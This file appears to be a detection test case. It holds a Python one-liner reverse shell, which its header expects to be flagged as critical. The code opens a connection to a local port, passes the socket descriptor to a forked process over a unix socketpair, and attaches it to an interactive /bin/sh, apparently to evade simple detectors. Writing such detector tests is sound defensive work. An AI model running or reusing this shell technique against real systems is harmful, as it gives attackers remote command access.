# about: one process connects, and sends the descriptor to another over a unix socket
# expect: reverse_shell critical
# needs: python3
peer 4424
python3 -c 'import socket,os,array
a,b=socket.socketpair()
if os.fork()==0:
    _,anc,_,_=b.recvmsg(1,socket.CMSG_LEN(4)); fd=array.array("i",anc[0][2])[0]
    for n in 0,1,2: os.dup2(fd,n)
    os.execv("/bin/sh",["sh","-i"])
s=socket.create_connection(("127.0.0.1",4424))
socket.send_fds(a,[b"x"],[s.fileno()]); os.wait()' || true
done_typing
